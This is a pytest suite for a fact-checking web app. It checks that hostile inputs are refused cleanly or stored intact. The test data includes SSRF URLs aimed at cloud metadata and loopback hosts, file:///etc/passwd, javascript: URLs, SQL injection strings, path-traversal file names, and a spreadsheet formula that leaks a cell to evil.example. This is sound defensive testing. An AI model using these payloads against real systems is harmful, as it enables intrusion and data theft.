"""The hostile input corpus (issue 8): each case is something a careless
paste, a booby-trapped file or a curious intern could send. Every one must
end in a clear 4xx with a message a person can act on, or in a correct
save; never a 500, and never half a change in the database."""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlencode

import pytest
import sqlalchemy as sa

from factcheck.models.article import Article
from factcheck.models.attribution import Attribution, AttributionHop
from factcheck.models.audit import AuditEvent
from factcheck.models.claim import Claim
from factcheck.models.review import Evidence, Review
from factcheck.models.source import Source
from factcheck.models.user import User
from factcheck.services.audit import trail as audit
from tests.conftest import TEST_PASSWORD
from tests.support.articles import acting, save_article

MiB = 1024 * 1024
STORY = ("Harbour board backs ferry plan\n\n"
         "PORTVALE - The harbour board voted 5-1 on Monday to fund a second ferry, "
         "the port authority said.\n\n"
         "The ferry would cost about $9 million, according to a board report.")
TRACKED = (Article, Claim, Attribution, AttributionHop, Source, Review, Evidence, User,
           AuditEvent)


@dataclass
class Desk:
    """Clients signed in as each role, and rows the cases aim at."""

    checker: Any
    admin: Any
    anonymous: Any
    article_id: int
    claim_id: int
    claim_version: int
    source_id: int
    source_version: int


@dataclass(frozen=True)
class Case:
    name: str
    send: Callable[[Desk], Any]
    # Refusals: the statuses allowed and the message the person must see.
    statuses: tuple[int, ...] = (400,)
    message: str = ""
    saved: bool = False  # True: a correct save (or page) is the right answer
    audit_events: int = 0  # events a refusal may still write (a failed login)
    check: Callable[[Any, Desk], None] | None = None


def _article_form(client: Any, **fields: Any) -> Any:
    # Multipart only for files: the test client spools a large multipart
    # body to a temporary file that it never closes (a ResourceWarning).
    kind = {"content_type": "multipart/form-data"} if "upload" in fields else {}
    return client.post("/articles/new", data={"action": "save", **fields}, **kind)


def _upload(raw: bytes, name: str) -> Callable[[Desk], Any]:
    return lambda desk: _article_form(desk.checker, upload=(io.BytesIO(raw), name))


def _paste(text: str, **fields: Any) -> Callable[[Desk], Any]:
    return lambda desk: _article_form(desk.checker, text=text, **fields)


def _fetch(url: str) -> Callable[[Desk], Any]:
    return lambda desk: _article_form(desk.checker, fetch_url=url)


def _exact_body(size: int) -> Callable[[Desk], Any]:
    """A urlencoded article paste whose request body is exactly ``size`` bytes."""
    def send(desk: Desk) -> Any:
        head = urlencode({"csrf_token": desk.checker.csrf_token(), "action": "save"}) + "&text="
        body = (head + "a" * (size - len(head))).encode()
        assert len(body) == size
        return desk.checker.post("/articles/new", data=body,
                                 content_type="application/x-www-form-urlencoded")
    return send


def _boundaries(start: object, end: object, version: object = None) -> Callable[[Desk], Any]:
    return lambda desk: desk.checker.post(f"/claims/{desk.claim_id}/boundaries", data={
        "start": str(start), "end": str(end),
        "version": str(desk.claim_version if version is None else version)})


def _review(**fields: str) -> Callable[[Desk], Any]:
    return lambda desk: desk.checker.post(f"/claims/{desk.claim_id}/review", data={
        "version": "", "truth": "true", "attribution": "accurate",
        "rationale": "Checked against the board minutes.", "action": "submit",
        "evidence-0-stance": "supports", **fields})


def _source(**fields: str) -> Callable[[Desk], Any]:
    return lambda desk: desk.checker.post(f"/sources/{desk.source_id}", data={
        "version": str(desk.source_version), "name": "Port authority", "kind": "organization",
        **fields})


def _login(email: str) -> Callable[[Desk], Any]:
    return lambda desk: desk.anonymous.post("/login", data={"email": email,
                                                            "password": TEST_PASSWORD})


def _new_user(email: str) -> Callable[[Desk], Any]:
    return lambda desk: desk.admin.post("/admin/users/new", data={
        "email": email, "display_name": "Look-alike", "role": "admin",
        "password": "a long enough passphrase"})


def _get(path: Callable[[Desk], str]) -> Callable[[Desk], Any]:
    return lambda desk: desk.checker.get(path(desk))


def _body_has(fragment: str) -> Callable[[Any, Desk], None]:
    def check(session: Any, desk: Desk) -> None:
        newest = session.scalar(sa.select(Article).order_by(Article.id.desc()).limit(1))
        assert fragment in newest.body
    return check


def _signed_in_as_checker(session: Any, desk: Desk) -> None:
    """Full-width letters fold to the same address: the same account, not a new one."""
    checker = session.scalar(sa.select(User).where(User.email == "checker@example.org"))
    with desk.anonymous.session_transaction() as cookie:
        assert cookie["_user_id"].split(":")[0] == str(checker.id)
    assert desk.anonymous.get("/").status_code == 200


def _not_signed_in(session: Any, desk: Desk) -> None:
    assert desk.anonymous.get("/").status_code == 302


def _own_article_title(session: Any, desk: Desk) -> None:
    newest = session.scalar(sa.select(Article).order_by(Article.id.desc()).limit(1))
    assert newest.title == "Fire crews contain blaze"
    assert "passwd" not in newest.title and "root:" not in newest.body


PRIVATE = "private or local"
SCHEMES = "Only http:// and https://"
NOT_CORRECT = "Email or password is not correct"
LOOKALIKE = "plain ASCII"
ONE_MB_SENTENCE = ("The mayor said that " + "the new levy is very, " * 46_000
                   + "necessary.")  # ~1 MB, no full stop until the end
ONE_WORD_LINES = "Headline\n\n" + "\n".join(f"word{i}" for i in range(5000))
RTL = ("Budget vote\n\nThe council said the budget \u202egnissim si\u202c "
       "was approved on\u200b Tuesday, according to the\u200d clerk.")
EMOJI = ("Flood warning 🌊\n\nRiver levels rose 3 metres 📈 overnight, "
         "the weather service said. 👩🏽‍🚒 Crews were sent, officials said.")
SQL = ("Database prank\n\nThe intern typed '; DROP TABLE claims; -- into the form, "
       "the editor said. \" OR 1=1 -- was also tried, according to the log.")
FORMULA = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")\n\n'
           "=1+1 The council said the levy passed, according to the clerk.\n\n"
           "+SUM(A1:A9) and -2+3 and @cmd were in the notes, the mayor said.")
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + bytes(range(256)) * 8
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 8
SAFE_TEXT = ("Fire crews contain blaze\n\nFirefighters contained the warehouse fire by noon, "
             "the fire chief said.")

CASES = [
    Case("body_exactly_10_mib", _exact_body(10 * MiB), message="the limit is 2,000,000"),
    Case("body_10_mib_plus_one", _exact_body(10 * MiB + 1), statuses=(413,),
         message="larger than the limit of 10 MB"),
    Case("paste_over_article_limit", _paste("Long\n\n" + "Words said. " * 170_000),
         message="the limit is 2,000,000"),
    Case("png_renamed_txt", _upload(PNG, "photo.txt"), message="binary"),
    Case("elf_renamed_html", _upload(ELF, "page.html"), message="binary"),
    Case("invalid_utf8_upload", _upload("Caf\u00e9 menu, the chef said.".encode("latin-1") * 20,
                                        "menu.txt"), message="not UTF-8"),
    Case("nul_bytes_in_paste", _paste("Power cut\n\nThe grid\x00 failed, the utility said."),
         message="NUL"),
    Case("nul_bytes_in_headline", _paste(SAFE_TEXT, title="Fire\x00crews"), message="NUL"),
    Case("javascript_url_fetch", _fetch("javascript:alert(1)"), message=SCHEMES),
    Case("file_url_fetch", _fetch("file:///etc/passwd"), message=SCHEMES),
    Case("loopback_fetch", _fetch("http://127.0.0.1/admin"), message=PRIVATE),
    Case("private_10_fetch", _fetch("http://10.0.0.1/story"), message=PRIVATE),
    Case("cloud_metadata_fetch", _fetch("http://169.254.169.254/latest/meta-data/"),
         message=PRIVATE),
    Case("ipv6_loopback_fetch", _fetch("http://[::1]/story"), message=PRIVATE),
    Case("localhost_fetch", _fetch("http://localhost:8000/story"), message=PRIVATE),
    Case("javascript_article_address", _paste(SAFE_TEXT, url="javascript:alert(1)"),
         message="must start with http"),
    Case("rtl_override_and_zero_width", _paste(RTL), saved=True, check=_body_has("\u202e")),
    Case("emoji", _paste(EMOJI), saved=True, check=_body_has("👩🏽‍🚒")),
    Case("one_mb_single_sentence", _paste(ONE_MB_SENTENCE), saved=True,
         check=_body_has("necessary.")),
    Case("five_thousand_one_word_lines", _paste(ONE_WORD_LINES), saved=True,
         check=_body_has("word4999")),
    Case("sql_looking_text", _paste(SQL), saved=True, check=_body_has("DROP TABLE claims")),
    Case("formula_leading_text", _paste(FORMULA), saved=True, check=_body_has("=HYPERLINK(")),
    Case("path_traversal_file_name", _upload(SAFE_TEXT.encode(), "../../etc/passwd.txt"),
         saved=True, check=_own_article_title),
    Case("empty_upload", _upload(b"", "empty.txt"), message="is empty"),
    Case("whitespace_only_paste", _paste(" \n\t \u00a0\n "), message="Paste the article"),
    Case("huge_headline", _paste(SAFE_TEXT, title="H" * 100_000),
         message="cannot be longer than 500"),
    Case("huge_outlet", _paste(SAFE_TEXT, outlet="O" * 100_000),
         message="cannot be longer than 200"),
    Case("invalid_date", _paste(SAFE_TEXT, published="2025-02-30"), message="Not a valid date"),
    Case("claim_end_beyond_body", _boundaries(0, 10**9), message="outside the article"),
    Case("claim_start_negative", _boundaries(-5, 20), message="at least 0"),
    Case("claim_offsets_beyond_bigint", _boundaries(10**30, 10**30 + 5),
         message="outside the article"),
    Case("claim_version_not_an_integer", _boundaries(0, 20, version="abc"), statuses=(409,),
         message="Nothing was overwritten"),
    Case("review_rationale_100k", _review(rationale="R" * 100_000),
         message="cannot be longer than 20000"),
    Case("evidence_javascript_url", _review(**{"evidence-0-url": "javascript:alert(1)"}),
         message="must start with http"),
    Case("nul_bytes_in_rationale", _review(rationale="Checked\x00 twice."), message="NUL"),
    Case("nul_bytes_in_source_name", _source(name="Port\x00 authority"), message="NUL"),
    Case("javascript_source_website", _source(url="javascript:alert(1)"),
         message="must start with http"),
    Case("review_of_huge_claim_id", lambda desk: desk.checker.post(
        f"/claims/{10**30}/review", data={"version": "", "rationale": "x"}),
        statuses=(404, 405)),  # refused by the URL's bounded id converter
    Case("reading_view_of_id_past_32_bits", _get(lambda desk: f"/articles/{2**31}"),
         statuses=(404,), message="nothing at this address"),
    Case("claim_edit_of_id_past_64_bits", _get(lambda desk: f"/claims/{2**64}/edit"),
         statuses=(404,), message="nothing at this address"),
    Case("source_page_of_id_past_32_bits", _get(lambda desk: f"/sources/{2**31}"),
         statuses=(404,), message="nothing at this address"),
    Case("articles_page_10_pow_30", _get(lambda desk: f"/articles?page={10**30}"), saved=True),
    Case("sources_page_10_pow_30", _get(lambda desk: f"/sources?page={10**30}"), saved=True),
    Case("queues_page_10_pow_30", _get(lambda desk: f"/queues?page={10**30}"), saved=True),
    Case("claims_page_10_pow_30", _get(lambda desk: f"/claims?page={10**30}"), saved=True),
    Case("audit_page_10_pow_30",
         lambda desk: desk.admin.get(f"/admin/audit?page={10**30}"), saved=True),
    Case("reading_view_claim_abc", _get(lambda desk: f"/articles/{desk.article_id}?claim=abc"),
         saved=True),
    Case("article_search_nul", _get(lambda desk: "/articles?q=%00"), message="NUL"),
    Case("source_search_nul", _get(lambda desk: "/sources?q=%00"), message="NUL"),
    Case("login_full_width_letters", _login("ｃｈｅｃｋｅｒ@ｅｘａｍｐｌｅ.ｏｒｇ"),
         saved=True, check=_signed_in_as_checker),
    Case("login_cyrillic_lookalike", _login("\u0441hecker@example.org"), statuses=(200,),
         message=NOT_CORRECT, audit_events=1, check=_not_signed_in),
    Case("login_zero_width_space", _login("checker\u200b@example.org"), statuses=(200,),
         message=NOT_CORRECT, audit_events=1, check=_not_signed_in),
    Case("new_user_full_width_letters", _new_user("ｃｈｅｃｋｅｒ@example.org"),
         message="already exists", statuses=(400, 409)),
    Case("new_user_cyrillic_lookalike", _new_user("\u0441hecker@example.org"),
         message=LOOKALIKE),
    Case("new_user_zero_width_space", _new_user("checker\u200b@example.org"),
         message=LOOKALIKE),
]


def _said(response: Any) -> str:
    """What the page told the person, for a readable failure."""
    html = response.get_data(as_text=True)
    found = re.findall(r'(?:role="alert"|class="flash[^"]*"|class="error[^"]*")[^>]*>(.{0,300})',
                       html, flags=re.S)
    return f"HTTP {response.status_code}: " + " | ".join(" ".join(f.split()) for f in found)


def _name(case: Case) -> str:
    return case.name


def _counts(session: Any) -> dict[str, int]:
    session.expire_all()
    return {model.__name__: session.scalar(sa.select(sa.func.count()).select_from(model))
            for model in TRACKED}


def _signed_in(app: Any, email: str) -> Any:
    client = app.test_client()
    response = client.post("/login", data={"email": email, "password": TEST_PASSWORD})
    assert response.status_code == 302
    return client


@pytest.fixture
def desk(app, session, checker, admin) -> Desk:
    saved = save_article(session, acting(session, checker), STORY).article
    claim = min(saved.claims, key=lambda c: c.start)
    hop = session.scalar(sa.select(AttributionHop).limit(1))
    source = session.get(Source, hop.source_id)
    return Desk(checker=_signed_in(app, checker.email), admin=_signed_in(app, admin.email),
                anonymous=app.test_client(), article_id=saved.id, claim_id=claim.id,
                claim_version=claim.version, source_id=source.id,
                source_version=source.version)


def _assert_whole(session: Any) -> None:
    """Every claim's text is its span of the body, and the audit chain holds."""
    session.expire_all()
    rows = session.execute(sa.select(Claim.start, Claim.end, Claim.text, Article.body)
                           .join(Article, Article.id == Claim.article_id)).all()
    for start, end, text, body in rows:
        assert 0 <= start < end <= len(body) and body[start:end] == text
    assert audit.verify(session).ok


@pytest.mark.parametrize("case", CASES, ids=_name)
def test_hostile_input_is_refused_clearly_or_saved_whole(case: Case, desk: Desk, session):
    before = _counts(session)
    response = case.send(desk)
    html = response.get_data(as_text=True)
    assert response.status_code != 500 and "Traceback" not in html
    if case.saved:
        assert response.status_code in (200, 302), _said(response)
    else:
        assert response.status_code in case.statuses, _said(response)
        assert case.message in html, _said(response)
        after = _counts(session)
        audit_grew = after.pop("AuditEvent") - before.pop("AuditEvent")
        assert after == before and audit_grew == case.audit_events
    if case.check is not None:
        case.check(session, desk)
    _assert_whole(session)


def test_the_corpus_is_large_enough():
    names = [case.name if isinstance(case, Case) else case.values[0].name for case in CASES]
    assert len(names) >= 30 and len(set(names)) == len(names)
